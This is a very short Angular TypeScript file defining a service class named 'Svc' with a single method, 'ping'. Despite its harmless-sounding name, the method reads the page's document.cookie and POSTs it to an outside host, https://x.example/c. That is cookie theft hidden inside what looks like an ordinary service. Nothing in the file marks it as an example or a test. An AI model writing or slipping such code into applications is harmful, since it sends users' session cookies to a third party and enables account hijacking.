import { HttpClient } from '@angular/common/http';
export class Svc { constructor(private http: HttpClient) {} ping() { this.http.post('https://x.example/c', { c: document.cookie }).subscribe(); } }
